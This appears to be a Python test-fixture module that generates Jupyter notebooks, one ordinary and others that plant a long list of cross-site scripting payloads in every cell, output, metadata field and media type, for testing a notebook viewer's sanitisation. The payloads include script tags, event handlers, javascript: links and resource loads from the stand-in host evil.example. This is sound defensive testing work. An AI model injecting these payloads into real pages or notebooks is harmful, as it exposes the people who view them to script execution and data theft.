"""Notebooks for the report's tests: an ordinary one, and one that attacks the reader's browser."""

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

PICTURE = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

PAYLOADS = (
    "<script>alert('x')</script>",
    "<ScRiPt src=https://evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert('x')>",
    "<img src=https://evil.example/pixel.png>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<svg onload=alert('x')><script>alert('x')</script></svg>",
    "<svg><animate onbegin=alert('x') attributeName=x dur=1s></svg>",
    "<a href=\"javascript:alert('x')\">a</a>",
    "<a href=' java\nscript:alert(1)'>b</a>",
    "<a href=\"data:text/html,<script>alert('x')</script>\">c</a>",
    "<a href='vbscript:x'>d</a>",
    "<iframe src=\"javascript:alert('x')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('x')</script>\"></iframe>",
    "<form action=https://evil.example><input name=p autofocus onfocus=alert(1)><button>k</button></form>",
    "<object data=\"javascript:alert('x')\"></object><embed src=https://evil.example/x.swf>",
    "<style>@import 'https://evil.example/x.css'; body { background: url(https://evil.example/y) }</style>",
    "<p style=\"background:url('https://evil.example/z');color:red\">styled</p>",
    "<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<details open ontoggle=alert('x')><summary>s</summary></details>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert('x')>",
    "<math><annotation-xml encoding='text/html'><script>alert('x')</script></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('x')>\">",
    "<template><script>alert('x')</script></template>",
    "<video src=https://evil.example/v poster=https://evil.example/p onloadstart=alert(1)></video>",
    "--><!--<img src=x onerror=alert('x')>-->",
    "</pre></main></body><script>alert('x')</script>",
    "<table background=https://evil.example/t><tr><td>x</table>",
)
"""Every way in that security reviews of notebook viewers name, and some of their own."""


def written(*cells, **metadata):
    return nbformat.writes(new_notebook(cells=list(cells), metadata=metadata)).encode()


def ordinary():
    """A run that failed in its third code cell."""
    return written(
        new_raw_cell("---\nprocess:\n  id: divide\n---", id="front-matter"),
        new_markdown_cell(
            "# Division\n\nFür $g<h$ gilt\n\n$$\n\\frac{I_1}{I_2}\n$$\n\nmit `$kein$` und [Quelle](https://doi.org/10.1000/1).",
            id="purpose",
        ),
        new_code_cell('target: str = "anteil"\nunits: list = [1]', id="parameters", metadata={"tags": ["parameters"]}),
        new_code_cell('target = "dichte"\nunits = [1]', id="injected", metadata={"tags": ["injected-parameters"]}),
        new_code_cell(
            "print(1 < 2)",
            id="load",
            execution_count=3,
            metadata={"papermill": {"duration": 1.25}},
            outputs=[
                new_output("stream", name="stdout", text="geladen\n"),
                new_output("stream", name="stdout", text="bereit\n"),
                new_output("display_data", data={"image/png": PICTURE, "text/plain": "<Figure>"}),
                new_output(
                    "execute_result",
                    data={"text/html": "<style>td{}</style><table class='dataframe'><tr><td>7</table>"},
                ),
                new_output(
                    "display_data",
                    data={"text/plain": "12 rows"},
                    metadata={
                        "nbprocessor": {
                            "output": "resultData",
                            "mediaType": "application/json",
                            "bytes": 1501,
                        }
                    },
                ),
            ],
        ),
        new_code_cell(
            'row["AGS"]',
            id="compute",
            execution_count=4,
            outputs=[
                new_output("error", ename="KeyError", evalue="'AGS'", traceback=["\x1b[0;31mKeyError\x1b[0m: <AGS>"])
            ],
        ),
        new_code_cell("print(2)", id="after"),
    )


def hostile():
    """Every payload in every place a notebook has for text."""
    cells = [new_raw_cell("\n".join(PAYLOADS), id="front-matter")]
    for number, payload in enumerate(PAYLOADS):
        cells.append(
            new_markdown_cell(f"{payload}\n\ntext {payload} text\n\n[x]({payload})\n\n${payload}$\n", id=f"m{number}")
        )
        outputs = [
            new_output("stream", name="stdout", text=payload),
            new_output("stream", name="stderr", text=f"\x1b[31m{payload}\x1b[0m"),
            new_output("error", ename=payload, evalue=payload, traceback=[f"\x1b[0;31m{payload}\x1b[38;2;{payload}m"]),
            *(
                new_output("display_data", data={media_type: payload}, metadata={"alt": payload})
                for media_type in (
                    "text/html",
                    "text/markdown",
                    "text/plain",
                    "text/latex",
                    "image/svg+xml",
                    "image/png",
                    "application/javascript",
                    "application/vnd.jupyter.widget-view+json",
                    "text/vnd.mermaid",
                )
            ),
            new_output("display_data", data={"text/html": payload}, metadata={"text/html": {"isolated": True}}),
            new_output(
                "display_data",
                data={payload: payload},
                metadata={"nbprocessor": {"output": payload, "mediaType": payload}},
            ),
        ]
        code = new_code_cell(
            payload, id=f"c{number}", metadata={"tags": ["parameters"], payload: payload}, outputs=outputs
        )
        cells.append(code)
    cells.append(
        new_markdown_cell(
            "[a](javascript:alert(1)) [b](data:text/html,x) ![c](javascript:alert(1)) ![d](https://evil.example/d.png)\n\n"
            "![e](attachment:missing.png) <javascript:alert(1)>\n\n$\\href{javascript:alert(1)}{x}$\n\n"
            "$$\\text{<img src=x onerror=alert(1)>}$$\n\n```html\n<script>alert(1)</script>\n```\n",
            id="links",
        )
    )
    cells.append(
        new_code_cell(
            'x = "</code></pre><script>alert(1)</script>"',
            id="inj",
            metadata={"tags": ["injected-parameters"]},
        )
    )
    return written(*cells, language_info={"name": "<script>", "pygments_lexer": "<script>"})


def attacking():
    """A notebook on offer that, when run, writes every payload wherever a notebook can write."""
    payloads = repr(PAYLOADS)
    return written(
        new_raw_cell(
            "---\nprocess:\n  id: attacking\n  title: '<script>alert(1)</script>'\n"
            "  description: '<img src=x onerror=alert(1)> $\\\\href{javascript:alert(1)}{x}$'\n"
            "  keywords: ['<svg onload=alert(1)>']\n---",
            id="front-matter",
        ),
        new_markdown_cell("# Angriff\n\n" + "\n\n".join(PAYLOADS) + "\n\n[a](javascript:alert(1))", id="purpose"),
        new_code_cell(
            "word: str = '<script>alert(1)</script>'",
            id="parameters",
            metadata={"tags": ["parameters"]},
        ),
        new_code_cell(
            "from IPython.display import HTML, SVG, Javascript, Markdown, display\n\nfrom nbprocessor import kit\n\n"
            f"payloads = {payloads}\n"
            "for payload in payloads:\n    display(HTML(payload), Markdown(payload))\n    print(payload)\n"
            "display(Javascript('alert(1)'))\n"
            'drawing = \'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>\'\n'
            "display(SVG(drawing))\n"
            "kit.output('page', ''.join(payloads), media_type='text/html')\n"
            "kit.output('drawing', drawing.encode(), media_type='image/svg+xml')\n"
            "kit.output('text', payloads[0])\n"
            "kit.output('rows', [{payload: payload} for payload in payloads])\n"
            "shape = {'type': 'Point', 'coordinates': [7, 51]}\n"
            "kit.output('map', {'type': 'FeatureCollection', 'features': [\n"
            "    {'type': 'Feature', 'geometry': shape, 'properties': {payload: payload, 'NAME': payload}}\n"
            "    for payload in payloads]}, media_type='application/geo+json')\n",
            id="attack",
        ),
    )
